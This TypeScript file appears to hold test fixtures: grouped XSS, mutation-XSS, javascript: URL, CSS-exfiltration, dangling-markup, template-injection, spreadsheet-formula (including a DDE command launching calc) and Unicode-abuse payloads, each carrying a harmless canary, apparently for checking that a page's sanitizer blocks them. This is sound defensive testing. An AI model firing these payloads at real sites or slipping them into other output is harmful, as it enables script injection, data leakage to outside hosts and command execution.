// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts for other template engines.

/** The control test proves that each of these fires on a vulnerable page. */
const PARSED: Readonly<Record<string, string>> = {
  script: '<script>§</script>',
  'script mixed case': '<ScRiPt>§</sCrIpT>',
  'script after the end of an attribute': '"><script>§</script>',
  'script after the end of a script': '</script><script>§</script>',
  'script in SVG': '<svg><script>§</script></svg>',
  'script in foreignObject': '<svg><foreignObject><body><script>§</script></body></foreignObject></svg>',
  'img onerror': '<img src=x: onerror=§>',
  'img onerror, slashes for blanks': '<img/src="x:"/onerror=§>',
  'img onerror, hexadecimal entities': '<img src=x: onerror="&#x74;op.__hits=(top.__hits||[]).concat(¶)">',
  'svg onload': '<svg onload=§>',
  'svg animate begins': '<svg><animate onbegin=§ attributeName=x dur=1s></svg>',
  'body onload': '<body onload=§>',
  'iframe with a javascript address and a tab': '<iframe src="java&Tab;script:§"></iframe>',
  'iframe with srcdoc': '<iframe srcdoc="<script>§</script>"></iframe>',
  'video onerror': '<video src=x: onerror=§></video>',
  'input autofocus': '<input autofocus onfocus=§>',
  'details opens': '<details open ontoggle=§><summary>x</summary></details>',
  'css animation starts': '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=§>x</b>',
  'template with shadow root': '<div><template shadowrootmode=open><img src=x: onerror=§></template></div>',
  'null byte in a text before': 'a\u0000b<img src=x: onerror=§>',
  polyglot:
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(§)//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=§//>',
  'mXSS math mtext mglyph style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=§&gt;" src=x: onerror=§>',
  'mXSS form in form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src=x:>">',
  'mXSS noscript attribute': '<noscript><style></noscript><img src=x: onerror=§></style></noscript>',
  'mXSS CDATA of SVG left': '<svg><![CDATA[</svg>]]><img src=x: onerror=§>',
  'clobbers a form and its attributes': '<form><input name=attributes><img src=x: onerror=§></form>',
  'clobbers the document': '<img name=querySelector><img name=cookie><img src=x: onerror=§>',
};

const TOUCHED: Readonly<Record<string, string>> = {
  'focus on any element': '<b tabindex=1 autofocus onfocus=§>x</b>',
  onclick: '<b onclick=§>x</b>',
  onmouseover: '<b onmouseover=§>x</b>',
  oninput: '<input oninput=§ value=x>',
  'a whole screen of onmouseover': '<b style="position:fixed;inset:0;z-index:9999" onmouseover=§>x</b>',
};

const ADDRESSES: Readonly<Record<string, string>> = {
  plain: 'javascript:§',
  'mixed case': 'JaVaScRiPt:§',
  'blanks and breaks before': '\n\t\r javascript:§',
  'a control character before': '\u0001javascript:§',
  'a tab inside': 'java\tscript:§',
  'breaks in all places': 'j\na\nv\na\ns\nc\nr\ni\np\nt\n:§',
  'a comment with a host': 'javascript://example.org/%0a§',
  'percent signs': 'javascript:%28%74op.__hits=(top.__hits||[]).concat(¶)%29',
};

const DEAD_ADDRESSES: Readonly<Record<string, string>> = {
  'data: HTML': 'data:text/html,<script>§</script>',
  'data: SVG': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="§"/>',
  'vbscript: upper case': 'VBSCRIPT:MSGBOX(1)',
  'feed: javascript': 'feed:javascript:§',
  'blob: of another': 'blob:https://canary.invalid/¶',
  'full width': 'ｊａｖａｓｃｒｉｐｔ:§',
  'zero width inside': 'java\u200bscript:§',
  'entities kept as text': 'javascript&colon;§',
  'protocol-relative': '//canary.invalid/¶',
  'back slashes': '\\\\canary.invalid\\¶',
  'slash and back slash': '/\\canary.invalid/¶',
  'a host in the user part': 'https://localhost@canary.invalid/¶',
};

const DORMANT: Readonly<Record<string, string>> = {
  'img onerror, no end of the tag': '<img src=x: onerror=§ ',
  'object with a javascript address': '<object data="javascript:§"></object>',
  'template with shadow root and script':
    '<b><template shadowrootmode=open><script>§</script></template></b>',

  'style with url()': 'background:url(https://canary.invalid/¶)',
  'style with url() in an attribute': '" style="background:url(https://canary.invalid/¶)',
  'colour that closes the rule': 'red}*{background:url(https://canary.invalid/¶)}',
  'image-set()': 'red;background:image-set("https://canary.invalid/¶" 1x)',
  'a custom property with url()': 'red;--x:url(https://canary.invalid/¶);background:var(--x)',
  'url() in escapes': 'red;background:\\75rl(https://canary.invalid/¶)',
  '@import': '<style>@import "https://canary.invalid/¶";</style>',
  'attribute selectors that leak': '<style>[value^="a"]{background:url(https://canary.invalid/¶)}</style>',
  'link to a style sheet': '<link rel=stylesheet href=https://canary.invalid/¶>',
  'fixed over all': '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Sign in</div>',
  'absolute over all': '<div style="position:absolute;inset:-9999px;z-index:2147483647">x</div>',
  'popover in the top layer': '<button popovertarget=p¶>x</button><div popover id=p¶>Sign in</div>',
  'dialog in the top layer':
    '<button commandfor=d¶ command=show-modal>x</button><dialog id=d¶><input type=password></dialog>',
  'dialog that is open': '<dialog open>Sign in</dialog>',
  'names of the page': '<a id=jQuery name=rspackChunk>x</a>',
  'signs by which the page tells its parts': '<b data-plugin=x data-keeps-input data-row=1 data-claim>x</b>',
  'Markdown with a picture and a link': '![x](https://canary.invalid/¶) [Sign in](https://canary.invalid/¶)',
  'style for all elements': '<style>*{display:none!important}</style>',
  'fixed as a colour': 'red;position:fixed;inset:0;z-index:2147483647',
  'important as a colour': 'red!important;font-size:999px!important',
  'a form that asks': '<form action=https://canary.invalid/¶><input name=password autofocus></form>',
  'a base for all': '<base href=https://canary.invalid/¶/>',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://canary.invalid/¶">',
  'a picture of another': '<img src=https://canary.invalid/¶>',
  'a picture set of another': '<img srcset=https://canary.invalid/¶>',
  'a ping': '<a href=# ping=https://canary.invalid/¶>x</a>',
  'dangling markup': '<img src="https://canary.invalid/¶?',

  'AngularJS constructor': "{{constructor.constructor('§')()}}",
  'AngularJS event': '<input autofocus ng-focus="$event.view.__hits=[¶]">',
  'AngularJS click': '<b ng-app ng-click="$event.view.__hits=[¶]">x</b>',
  'AngularJS in a class': '<b class="ng-init:constructor.constructor(\'§\')()">x</b>',
  'AngularJS include': '<ng-include src="\'data:text/html,§\'"></ng-include>',
  'JUEL of Java': "${''.getClass().forName('java.lang.Runtime')}",
  'template string': '${§}',
  'Mustache, three': '{{{constructor.constructor("§")()}}}',
  'i18next nesting': '$t(shell:title) {{constructor}} $t(§)',
  FEEL: '= for x in [1] return x + get value(§)',
  'FEEL in form-js': '=function(x) §',
  'ICU message': '{n, plural, other {§}} {x, select, other {<b>}}',
  'JavaScript in quotes': "';§;//",
  'JSON that ends its script': '</script>"}];§//',
  'JSON with line separators': '\u2028§\u2029',
  'regular expression': '(a+)+$[\\',
  'format string': '%s%d%n%x $1 $& $` %c',
  'Markdown link': '[x](javascript:§)',
  'Markdown reference': '[x][1]\n\n[1]: javascript:§',
  'Markdown picture with a quote': '![x"onerror="§](x)',
  'Markdown autolink': '<javascript:§>',
  'Markdown code fence': '```\n</code></pre><img src=x: onerror=§>\n```',

  'right-to-left override, never closed': 'Invoice \u202efdp.exe',
  'right-to-left isolate, never closed': '\u2067abc',
  'embedding, forty deep': '\u202b'.repeat(40),
  'zero width space': 'ad\u200bmin',
  'byte order mark': '\ufeffadmin',
  'combining marks, a tower of them': `Z${'\u0351\u0325\u0300'.repeat(60)}`,
  'null byte': 'a\u0000b',
  'control characters': '\u0001\u0002\u0007\u0008\u001b[31m',
  'lone surrogate, high': 'a\ud83d',
  'lone surrogate, low': '\ude00a',
  'no characters': '\ufffe\uffff',
  'one word without end': 'W'.repeat(3000),
  'ligature that grows': '\ufdfd'.repeat(40),
  'emoji of a family': '👨‍👩‍👧‍👦'.repeat(40),
  'many lines': 'x\n'.repeat(300),
  prototype: '__proto__',
  constructor: 'constructor',

  'an address with brackets behind it': `https://canary.invalid/${')'.repeat(3000)}`,
  'an address with brackets of each kind': `https://canary.invalid/${'])}'.repeat(1000)}`,
  'words that deny': 'not '.repeat(1000),
  'words that join': 'and due '.repeat(500),
  'quotes that never end': '"'.repeat(3000),
  'marks in two orders': `a${'\u0301\u0323'.repeat(1500)}`,
  'a number beyond all': '9'.repeat(3000),
  'a number without end': '1e999999999',
  'an expression of the engine': "${'acc'.concat('ounting')}",
  'a deferred expression of the engine': "#{'acc'.concat('ounting')}",
  'a formula': '=HYPERLINK("https://canary.invalid/¶")',
  'a formula behind a semicolon': "A-17;=cmd|'/c calc'!A0",
  'a formula behind a line break': 'A-17\n@SUM(1)',
  'a formula in full width': '＝HYPERLINK("https://canary.invalid/¶")',
};

export type Sink = 'parsed' | 'touched' | 'address' | 'deadAddress' | 'none';

export interface Payload {
  readonly name: string;
  readonly text: string;
  readonly sink: Sink;
}

const GROUPS: Readonly<Record<Sink, Readonly<Record<string, string>>>> = {
  parsed: PARSED,
  touched: TOUCHED,
  address: ADDRESSES,
  deadAddress: DEAD_ADDRESSES,
  none: DORMANT,
};

export const PAYLOADS: readonly Payload[] = Object.entries(GROUPS)
  .flatMap(([sink, group]) =>
    Object.entries(group).map(([name, text]) => ({ name, text, sink: sink as Sink })),
  )
  .map((payload, number) => ({ ...payload, text: withCanary(payload.text, number) }));

function withCanary(text: string, number: number): string {
  // The canary has no quotes, spaces or angle brackets, so that it fits into all payloads.
  const canary = `(top.__hits=(top.__hits||[]).concat(${number}))`;
  return text.replaceAll('§', () => canary).replaceAll('¶', String(number));
}
